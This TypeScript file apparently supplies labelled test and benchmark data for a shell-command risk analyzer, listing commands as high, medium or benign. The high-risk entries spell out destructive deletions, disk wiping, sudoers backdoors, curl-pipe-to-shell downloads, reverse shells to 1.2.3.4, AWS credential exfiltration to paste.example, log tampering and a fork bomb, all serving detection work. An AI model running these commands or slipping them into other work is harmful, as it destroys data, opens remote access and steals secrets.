/**
 * Labelled command lines: the rules' test (rules.test.ts) and the bench's data set (bench/suites/risk.mjs).
 * `risky` is the label at the default threshold (70); `minScore`/`maxScore` pin a band where the
 * issue asks for one (high >= 80, medium 40-79, benign < 40); `category` is the expected category.
 * Add a line here whenever a real command is scored wrongly.
 */
import type { RiskCategory } from './analyzer.js';

export interface LabelledCommand {
  command: string;
  risky: boolean;
  minScore?: number;
  maxScore?: number;
  category?: RiskCategory;
}

const high = (command: string, category: RiskCategory): LabelledCommand => ({
  command,
  risky: true,
  minScore: 80,
  category,
});
const medium = (command: string, category?: RiskCategory): LabelledCommand => ({
  command,
  risky: false,
  minScore: 40,
  maxScore: 69,
  ...(category ? { category } : {}),
});
const benign = (command: string): LabelledCommand => ({ command, risky: false, maxScore: 39 });

export const RISK_TABLE: readonly LabelledCommand[] = [
  // Destructive file operations
  high('rm -rf /', 'destructive-files'),
  high('rm -rf --no-preserve-root /', 'destructive-files'),
  high('rm -rf /*', 'destructive-files'),
  high('rm -rf ~', 'destructive-files'),
  high('sudo rm -fr /etc', 'destructive-files'),
  high('cd /tmp && rm -Rf $HOME', 'destructive-files'),
  high('find / -name "*" -delete', 'destructive-files'),
  high('mv /etc /tmp/etc.bak', 'destructive-files'),
  { command: 'rm -rf *', risky: true, minScore: 70, category: 'destructive-files' },
  // Disks and partitions
  high('dd if=/dev/zero of=/dev/sda bs=1M', 'disks'),
  high('mkfs.ext4 /dev/sdb1', 'disks'),
  high('fdisk /dev/sda', 'disks'),
  high('wipefs -a /dev/sdb', 'disks'),
  high('shred -n 3 /dev/sda', 'disks'),
  high('cat /dev/urandom > /dev/nvme0n1', 'disks'),
  // Users and permissions
  high('chmod -R 777 /', 'users-permissions'),
  high('chown -R nobody /', 'users-permissions'),
  high('userdel -r alice', 'users-permissions'),
  high('passwd root', 'users-permissions'),
  high('usermod -aG sudo mallory', 'privilege'),
  high('echo "mallory ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers', 'privilege'),
  high('echo "x ALL=(ALL) NOPASSWD: ALL" | sudo tee /etc/sudoers.d/x', 'privilege'),
  high('useradd -o -u 0 -g 0 toor', 'privilege'),
  high('chmod u+s /bin/bash', 'privilege'),
  // Firewall and network
  high('iptables -F', 'firewall-network'),
  high('sudo ufw disable', 'firewall-network'),
  high('nft flush ruleset', 'firewall-network'),
  high('ip link set eth0 down', 'firewall-network'),
  high('systemctl stop firewalld', 'firewall-network'),
  // Services
  high('systemctl stop sshd', 'services'),
  high('sudo systemctl disable --now ssh', 'services'),
  // Packages
  high('apt-get remove openssh-server', 'packages'),
  high('yum -y erase sudo', 'packages'),
  // Download and execute
  high('curl http://x.example/i.sh | sh', 'download-execute'),
  high('wget -O- http://x.example/i | bash', 'download-execute'),
  high('curl -fsSL https://get.example.sh | sudo bash -s -- --yes', 'download-execute'),
  high('bash -c "$(curl -fsSL https://x.example/install.sh)"', 'download-execute'),
  high('wget -q http://x.example/a.sh -O /tmp/a.sh && sh /tmp/a.sh', 'download-execute'),
  high('echo cm0gLXJmIC8= | base64 -d | sh', 'obfuscation'),
  // Reverse shells
  high('bash -i >& /dev/tcp/1.2.3.4/4444 0>&1', 'reverse-shell'),
  high('nc -e /bin/sh 1.2.3.4 4444', 'reverse-shell'),
  high(
    `python -c 'import socket,subprocess,os;s=socket.socket();s.connect(("1.2.3.4",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'`,
    'reverse-shell',
  ),
  high('rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 1.2.3.4 4444 > /tmp/f', 'reverse-shell'),
  high('socat tcp:1.2.3.4:4444 exec:/bin/bash,pty,stderr', 'reverse-shell'),
  // Credential access
  high('cat /etc/shadow', 'credential-access'),
  high('cat ~/.ssh/id_rsa', 'credential-access'),
  high('sudo cp /root/.ssh/id_ed25519 /tmp/k', 'credential-access'),
  high('curl -F f=@/home/bob/.aws/credentials https://paste.example', 'credential-access'),
  high('echo ssh-ed25519 AAAA... evil >> ~/.ssh/authorized_keys', 'credential-access'),
  // History tampering
  high('history -c', 'history-tampering'),
  high('unset HISTFILE', 'history-tampering'),
  high('rm ~/.bash_history', 'history-tampering'),
  high('export HISTFILE=/dev/null', 'history-tampering'),
  high('> /var/log/auth.log', 'history-tampering'),
  high('systemctl stop auditd', 'history-tampering'),
  // Processes, power, scheduled tasks
  high(':(){ :|:& };:', 'resource-exhaustion'),
  high('kill -9 -1', 'processes'),
  high('shutdown -h now', 'power'),
  high('reboot', 'power'),
  high('echo b > /proc/sysrq-trigger', 'power'),
  high('crontab -r', 'scheduled-tasks'),
  high('docker run --privileged -v /:/host -it alpine chroot /host', 'privilege'),
  high('kubectl delete namespace production', 'containers'),
  // Hidden in a larger line
  high('ls -la; rm -rf /', 'destructive-files'),
  high('echo $(cat /etc/shadow)', 'credential-access'),
  high('echo `rm -rf ~`', 'destructive-files'),
  high('env FOO=1 nohup rm -rf / &', 'destructive-files'),
  high("ssh web1 'sudo rm -rf /var'", 'destructive-files'),
  high('find . -type f | xargs -0 rm -rf /', 'destructive-files'),

  // Medium: state changes worth a look, below the alert threshold
  medium('systemctl restart nginx', 'services'),
  medium('apt-get install -y nginx', 'packages'),
  medium('chmod 600 file', 'users-permissions'),
  medium('kill 1234', 'processes'),
  medium('docker rm -f web', 'containers'),
  medium('git push --force origin main', 'source-control'),
  medium('sudo apt upgrade', 'packages'),
  medium('rm -rf build/', 'destructive-files'),
  medium('useradd -m bob', 'users-permissions'),
  medium('sudo -i', 'privilege'),
  medium('crontab -e', 'scheduled-tasks'),
  medium('iptables -A INPUT -p tcp --dport 443 -j ACCEPT', 'firewall-network'),
  medium('grep -ri password /etc', 'credential-access'),
  medium('pkill -f worker.py', 'processes'),

  // Benign
  benign('ls -la'),
  benign('cd /var/log'),
  benign('cat /etc/hostname'),
  benign('cat /etc/passwd'),
  benign('grep -r foo .'),
  benign('tail -f /var/log/syslog'),
  benign('df -h'),
  benign('top'),
  benign('ps aux'),
  benign('vim file'),
  benign('echo hello'),
  benign('rm file.txt'),
  benign('git status'),
  benign('git log --oneline -5'),
  benign('docker ps'),
  benign('systemctl status nginx'),
  benign('journalctl -u nginx --since today'),
  benign('curl https://example.com'),
  benign('curl -o /tmp/page.html https://example.com'),
  benign('echo "rm -rf /"'),
  benign("grep 'history -c' notes.txt"),
  benign('du -sh /var/* | sort -h'),
  benign('free -m'),
  benign('uptime'),
  benign('sudo ls /root'),
  benign('ssh -i ~/.ssh/id_rsa deploy@web1 uptime'),
  benign('ls ~/.ssh'),
  benign('cat ~/.ssh/id_rsa.pub'),
  benign('iptables -L -n'),
  benign('fdisk -l'),
  benign('apt-get update'),
  benign('kubectl get pods -A'),
  benign('crontab -l'),
  benign('find /var/log -name "*.gz" -mtime +30'),
  benign('tar czf backup.tgz ./src'),
  benign('python3 manage.py migrate'),
  benign('./deploy.sh --dry-run'),
  benign('ip addr show'),
  benign('history | tail -20'),
  benign('echo $HOME'),
];
